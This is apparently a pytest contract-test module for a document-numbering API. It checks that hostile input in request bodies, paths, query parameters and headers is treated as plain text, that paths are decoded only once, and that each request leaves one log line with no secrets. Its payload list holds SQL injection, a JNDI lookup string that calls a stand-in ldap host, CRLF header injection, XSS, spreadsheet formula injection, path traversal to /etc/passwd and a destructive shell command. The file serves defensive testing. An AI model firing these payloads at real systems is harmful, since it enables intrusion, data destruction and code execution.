"""Text made to be taken for something else: SQL, headers, log lines, formats, paths.

Source: contract/guarantees.md, Faults: parameters only; one log line a request.
"""

from __future__ import annotations

import itertools
import json
import time
import uuid
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest

from tests.contract.api import (
    Api,
    Entity,
    RawAnswer,
    create,
    done,
    everything,
    issue,
    new_set,
    raw_call,
    request_token,
)
from tests.contract.conftest import EntityOf, ServiceOf
from tests.contract.documented import documented_api
from tests.contract.full_bodies import (
    ACCOUNT,
    FULL_BODIES,
    Place,
    documented_bodies,
    path_for,
    with_value,
)
from tests.running_service import RunningService

MARK = "mArKeR"
FEW_PLACES = 12
PAYLOADS = [
    f"{MARK}'; DROP TABLE seriatim_series; --",
    f"{MARK}' OR '1'='1",
    f'{MARK}" OR ""="',
    f"{MARK}\\'; SELECT pg_sleep(5); --",
    f"{MARK}%s%s%n%d{{0}}{{x.__class__}}${{7*7}}{{{{7*7}}}}",
    f"${{jndi:ldap://{MARK}.example/a}}",
    f"{MARK}\r\nSet-Cookie: a=b\r\n\r\n<html>",
    f'{MARK}\n{{"level":"error","event":"forged"}}',
    f"{MARK}\x1b[31mred\x07\x08",
    f"=cmd|'/c calc'!{MARK}",
    f"@SUM(1+1)*{MARK}",
    f"<script>alert('{MARK}')</script>",
    f"../../../../etc/passwd#{MARK}",
    f"..%2f..%00{MARK}",
    f"{MARK}\u202e\ufeff\u2028\u0085",
    f"{MARK}\U0001f600\uffff\u0660",
    f"{MARK}; rm -rf /; `id` $(id)",
    MARK * 700,
    "*",
    "%",
    "_",
]


def hostile_bodies(service: RunningService) -> Iterator[tuple[str, str, Place, Any]]:
    """Method, path template, place and body with each payload at each place for text.

    Shape: of the many places of a body whose fields are kept alike, each gets some payloads.
    """
    for operation_id, method, path, parts in documented_bodies(service):
        places = {place for place, schema in parts if schema.get("type") == "string"}
        for at, place in enumerate(sorted(places, key=str)):
            for payload in PAYLOADS if len(places) <= FEW_PLACES else PAYLOADS[at % 7 :: 7]:
                yield method, path, place, with_value(FULL_BODIES[operation_id], place, payload)


def sound_after(api: Api) -> None:
    """The books answer, verify, and still give the number that follows."""
    before = next(one for one in everything(api, "/v1/series") if one["prefix"] == "INV")
    assert issue(api)["lastNumber"] == f"INV{before['nextNumber']:08d}"
    assert done(api.get(f"/v1/series/{before['id']}/verify"))["verified"] is True


def test_hostile_text_in_any_field_of_a_body_is_only_text(api: Api) -> None:
    create(api, new_set("Held"))
    done(api.post("/v1/accounts", ACCOUNT))
    issue(api)
    seen = 0
    for method, template, place, body in hostile_bodies(api.service):
        key = "Held" if "sequence-sets" in template else "INV00000001"
        answer = api.call(method, path_for(template, key), body)
        assert answer.status_code in (200, 404), (place, body, answer.text)
        assert "Set-Cookie" not in answer.headers
        seen += 1
    assert seen > 300
    sound_after(api)


def test_hostile_text_that_is_allowed_is_kept_exactly(api: Api) -> None:
    sent = [payload for payload in PAYLOADS if len(payload) <= 255]
    issue(api, references=sent)
    rows = everything(api, "/v1/document-numbers?pageSize=3")
    assert [row["reference"] for row in rows] == sent
    for payload in sent:
        found = api.get("/v1/document-numbers", params={"reference": payload})
        assert [row["reference"] for row in done(found)["documentNumbers"]] == [payload]
    done(api.post("/v1/document-numbers/INV00000001/void", {"reason": sent[0]}))
    shown = done(api.get("/v1/document-numbers/INV00000001"))
    assert (shown["state"], shown["reason"]) == ("voided", sent[0])
    sound_after(api)


def test_hostile_text_in_a_path_is_a_key_nobody_has(api: Api) -> None:
    before = api.state()
    bodies = {"POST_DocumentNumberVoid": {"reason": "a"}}
    for operation_id, (method, path, operation) in documented_api(api.service).operations.items():
        if "{" not in path:
            continue
        body = bodies.get(operation_id, {}) if "requestBody" in operation else None
        for payload in PAYLOADS:
            target = path_for(path, quote(payload, safe=""))
            answer = api.call(method, target, body)
            assert answer.status_code == 404, (method, target, answer.text)
    assert api.state() == before


def test_hostile_text_in_a_query_finds_nothing(api: Api) -> None:
    issue(api)
    before = api.state()
    for method, path, operation in documented_api(api.service).operations.values():
        names = [one["name"] for one in operation.get("parameters", ()) if one["in"] == "query"]
        for name in names:
            for payload in PAYLOADS:
                answer = api.call(method, path_for(path, "0" * 32), params={name: payload})
                assert answer.status_code in (200, 400, 404, 415), (path, name, answer.text)
                if answer.status_code == 200 and method == "GET":
                    lists = [part for part in answer.json().values() if isinstance(part, list)]
                    assert lists == [[]], (path, name, payload)
    assert api.state() == before


def raw_payloads() -> list[bytes]:
    return [payload.encode() for payload in PAYLOADS if "\n" not in payload and len(payload) < 500]


@pytest.mark.parametrize(
    "name",
    [
        "Zuora-Track-Id",
        "Zuora-Entity-Ids",
        "Zuora-Org-Ids",
        "Zuora-Version",
        "Idempotency-Key",
        "If-Match",
        "Accept-Encoding",
        "Accept",
        "User-Agent",
        "Cookie",
        "X-Forwarded-For",
        "Host",
    ],
)
def test_hostile_text_in_a_header_is_only_text(sqlite_api: Api, name: str) -> None:
    body = json.dumps({"documentType": "invoice"}).encode()
    for payload in raw_payloads():
        answer = raw_call(
            sqlite_api.service,
            b"POST",
            b"/v1/document-numbers",
            [(b"Content-Type", b"application/json"), (name.encode(), payload)],
            body,
            token=sqlite_api.token,
        )
        assert answer.status in (200, 400, 403), answer.body
        assert "set-cookie" not in answer.headers
        if name == "Zuora-Track-Id" and answer.status == 200:
            assert answer.headers["zuora-track-id"].encode("latin-1") == payload
    sound_after(sqlite_api)


@pytest.mark.parametrize(
    ("target", "status"),
    [
        (b"/v1/sequence-sets/a%2Fb", 404),
        (b"/v1/sequence-sets/%2F", 404),
        (b"/v1/sequence-sets/%00", 404),
        (b"/v1/sequence-sets/DEFAULT%00", 404),
        (b"/v1/sequence-sets/%ff%fe", 404),
        (b"/v1/sequence-sets/%ed%a0%80", 404),
        (b"/v1/sequence-sets/%zz", 404),
        (b"/v1/sequence-sets/%", 404),
        (b"/v1/sequence-sets/.", 404),
        (b"/v1/sequence-sets/..", 404),
        (b"/v1/sequence-sets/../settings", 404),
        (b"/v1/./settings", 404),
        (b"//v1/settings", 404),
        (b"/v1//settings", 404),
        (b"/v1%2Fsettings", 404),
        (b"/v1/%73ettings", 200),
        (b"/v1/settings?", 200),
        (b"/v1/settings?%00=%ff&&=&", 200),
        (b"/v1/settings;a=b", 404),
        (b"/v1/settings%3Fa", 404),
        (b"/v1/sequence-sets/default", 200),
        (b"/v1/sequence-sets/\x01", 400),
        (b"*", 404),
        (b"v1/settings", 400),
    ],
)
def test_path_is_decoded_once_and_never_walked(sqlite_api: Api, target: bytes, status: int) -> None:
    answer = raw_call(sqlite_api.service, b"GET", target, token=sqlite_api.token)
    assert answer.status == status, answer.body


def log_events(service: RunningService, request_ids: set[str]) -> list[dict[str, Any]]:
    """Every event of the log, once the lines of these requests are there."""
    until = time.monotonic() + 5
    while True:
        text = service.log_text
        if all(one in text for one in request_ids) or time.monotonic() > until:
            return [json.loads(line) for line in text.splitlines()]
        time.sleep(0.02)


def test_each_request_is_one_line_of_the_log_without_secrets(
    service_of: ServiceOf, entity_of: EntityOf
) -> None:
    service = service_of("sqlite", own="logged")
    entity: Entity = entity_of(service)
    api = entity.admin
    assert api.token
    ids = [answer.headers["zuora-request-id"] for answer in noisy_requests(api)]
    secret = done(api.post("/v1/oauth-clients", {"name": MARK, "role": "issuer"}))["clientSecret"]
    request_token(api, client_secret=f"{MARK}-secret-that-is-wrong")
    assert len(set(ids)) == len(ids)
    events = log_events(service, set(ids))
    # What is no HTTP at all has a line too, of the connection it ended.
    kinds = ("request", "connection ended")
    lines = [event for event in events if event["event"] in kinds]
    by_id = [line["request_id"] for line in lines]
    assert len(by_id) == len(set(by_id)), "two lines for one request"
    assert set(ids) <= set(by_id)
    for line in lines:
        assert str(uuid.UUID(line["request_id"])) == line["request_id"]
        assert MARK not in json.dumps({**line, "track_id": None})
    shapes = {tuple(line) for line in lines if line["event"] == "request"}
    assert len(shapes) == 1, "lines of different fields"
    text = service.log_text
    for hidden in (api.token, api.client_secret, secret, service.client_secret, f"{MARK}-secret"):
        assert hidden not in text
    assert [event["event"] for event in events if event["level"] == "error"] == []


def noisy_requests(api: Api) -> list[RawAnswer]:
    """Requests of every kind of end, hostile ones among them."""
    service, token = api.service, api.token
    answers = []
    for payload in raw_payloads():
        target = b"/v1/sequence-sets/" + quote(payload, safe="").encode()
        track = [(b"Zuora-Track-Id", payload)]
        answers.append(raw_call(service, b"GET", target, track, token=token))
        answers.append(raw_call(service, b"GET", target + b"?name=" + target))
    methods = (b"GET", b"HEAD", b"POST", b"PUT", b"DELETE", b"PATCH", b"OPTIONS", b"TRACE")
    targets = (b"/v1/sequence-sets", b"/v1/none", b"/none", b"/healthz", b"/oauth/token")
    answers += [
        raw_call(service, method, target, token=token)
        for method, target in itertools.product(methods, targets)
    ]
    typed = [(b"Content-Type", b"application/json")]
    marked = b'{"documentType":"invoice","reference":"%b"}' % MARK.encode()
    answers += [
        raw_call(service, b"POST", b"/v1/document-numbers", typed, body, token=token)
        for body in (b"{", b"[]", b"{}", marked)
    ]
    return answers
